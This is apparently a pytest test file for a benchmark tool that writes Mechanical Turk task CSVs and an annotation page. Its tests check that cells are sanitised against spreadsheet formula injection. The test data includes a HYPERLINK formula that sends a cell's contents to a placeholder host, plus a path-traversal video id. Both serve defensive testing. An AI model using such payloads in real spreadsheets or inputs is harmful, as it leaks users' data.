"""`fiberbench hit-inputs`: the task CSV of the release's layout, its cells safe for a page and a spreadsheet, and the
annotation page with N clip slots."""

import csv
import html
import json
import logging
import re

import pytest

from fiberbench.cli import main
from fiberbench.data import SAMPLE_DIR
from fiberbench.data.annotation import CLIPS_PER_TASK, PAGE_PATH, annotation_page, input_columns, preview_url
from fiberbench.data.hits import task_columns

from .conftest import blanked_record

SAMPLE_VAL = json.loads((SAMPLE_DIR / "val.json").read_text())
# Cells a spreadsheet would run as formulas (OWASP's "CSV Injection"), as captions, labels and ids can start.
FORMULAS = [blanked_record(f"{'-' if number == 3 else 'a'}bcdefghij{number}", caption, label) for number, (caption, label)
            in enumerate([("=1+2 a cake is shown.", "a cake"), ("A sign says =HYPERLINK(\"http://x.example/?d=\"&A1,"
                           "\"Open\").", '=HYPERLINK("http://x.example/?d="&A1,"Open")'), ("+1 and a dog runs.", "a dog"),
                          ("-2 is on the board.", "the board"), ("@home a man sings.", "a man"),
                          ("\t=1+1 is on the wall.", "the wall"), ("\r=1+1 is on the door.", "the door"),
                          ('${price} says "it\'s <b>fun</b>" & shows a screen.', "a screen")], start=1)]


def read_csv(path):
    with path.open(newline="", encoding="utf-8") as file:
        reader = csv.DictReader(file)
        return reader.fieldnames, list(reader)


def clips_of(rows, clips_per_task):
    return [{field: html.unescape(row[column]) for field, column in input_columns(clip).items()}
            for row in rows for clip in range(1, clips_per_task + 1)]


@pytest.mark.parametrize(("questions_per_hit", "tasks"), [(5, 12), (7, 9)])
def test_one_row_per_task_in_file_order_the_last_holding_the_remainder(tmp_path, caplog, questions_per_hit, tasks):
    hits = tmp_path / "hits.csv"
    with caplog.at_level(logging.INFO):
        assert main(["hit-inputs", str(SAMPLE_DIR / "val.json"), "--questions_per_hit", str(questions_per_hit),
                     "--output_file", str(hits)]) == 0
    columns, rows = read_csv(hits)
    assert columns == task_columns(questions_per_hit) and len(rows) == tasks
    clips = clips_of(rows, questions_per_hit)
    expected = [{field: str(record[field]) for field in input_columns(1)} for record in SAMPLE_VAL]
    assert clips[: len(expected)] == expected and not any(any(clip.values()) for clip in clips[len(expected) :])
    assert f"Preview the first task in a browser: {preview_url(rows[0])}" in caplog.text
    if questions_per_hit != CLIPS_PER_TASK:
        assert "shows 5 clips per task: write one for 7 with --page_file" in caplog.text


def test_no_cell_is_a_formula_or_markup_and_each_reads_back_as_written(tmp_path):
    (tmp_path / "val.json").write_text(json.dumps(FORMULAS))
    assert main(["hit-inputs", str(tmp_path / "val.json"), "--output_file", str(tmp_path / "hits.csv")]) == 0
    columns, rows = read_csv(tmp_path / "hits.csv")
    cells = [row[column] for row in rows for column in columns]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") or set('"<>\'') & set(cell)]
    expected = [{field: str(record[field]) for field in input_columns(1)} for record in FORMULAS]
    assert [clip for clip in clips_of(rows, CLIPS_PER_TASK) if clip["video_id"]] == expected


def test_the_shipped_page_is_the_page_of_five_clips_and_page_file_writes_another(tmp_path, caplog):
    page = PAGE_PATH.read_text(encoding="utf-8")
    assert annotation_page(CLIPS_PER_TASK) == page
    # Every placeholder is a task input (Mechanical Turk refuses a template naming a column the CSV lacks); labels are
    # in the CSV for the results, never shown to workers.
    assert re.findall(r"\$\{([^}]*)\}", page) == [c for c in task_columns(CLIPS_PER_TASK) if not c.startswith("label")]
    with caplog.at_level(logging.INFO):
        assert main(["hit-inputs", str(SAMPLE_DIR / "val.json"), "--questions_per_hit", "3", "--output_file",
                     str(tmp_path / "hits.csv"), "--page_file", str(tmp_path / "task.html")]) == 0
    written = (tmp_path / "task.html").read_text()
    slots = re.findall(r'data-video-id="\$\{(\w+)\}"', written)
    assert written == annotation_page(3) and slots == ["video1_id", "video2_id", "video3_id"]
    assert f"Preview the first task in a browser: {(tmp_path / 'task.html').resolve().as_uri()}?video1_id=" in caplog.text


RECORD = '{"video_id": "abc", "video_start_time": 0, "video_end_time": 10, "masked_caption": "A _____.", "label": "x"}'


@pytest.mark.parametrize(("content", "arguments", "status", "message"), [
    ("[]", [], 1, r"val.json: holds no clips"),
    (RECORD.replace('"abc"', '"a/../b"').join("[]"), [], 1, r"val.json: record 0: field 'video_id': 'a/../b' is not"),
    (RECORD.replace("A _____.", "no blank").join("[]"), [], 1, r"record 0: field 'masked_caption': expected exactly one"),
    (f"[{RECORD}, {RECORD}]", [], 1, r"val.json: record 1: clip \('abc', 0, 10\) is also record 0 of"),
    (RECORD[:20], [], 1, r"val.json: record 0: invalid JSON"),
    (f"[{RECORD}]", ["--questions_per_hit", "0"], 2, r"--questions_per_hit: must be at least 1, got 0"),
    (f"[{RECORD}]", ["--output_file", "{input}"], 2, r"--output_file .*val.json is an input of this command"),
    (f"[{RECORD}]", ["--page_file", "{output}"], 2, r"--output_file .*hits.csv and --page_file .*hits.csv would share"),
    (f"[{RECORD}]", ["--page_file", "{page}"], 2, r"--page_file .*hits.html would share one record"),
])
def test_bad_inputs_are_one_line_and_write_nothing(tmp_path, refused, content, arguments, status, message):
    path, output = tmp_path / "val.json", tmp_path / "hits.csv"
    path.write_text(content)
    arguments = [argument.format(input=path, output=output, page=tmp_path / "hits.html") for argument in arguments]
    refused(tmp_path, status, message, "hit-inputs", path, "--output_file", output, *arguments)  # the row's flag wins
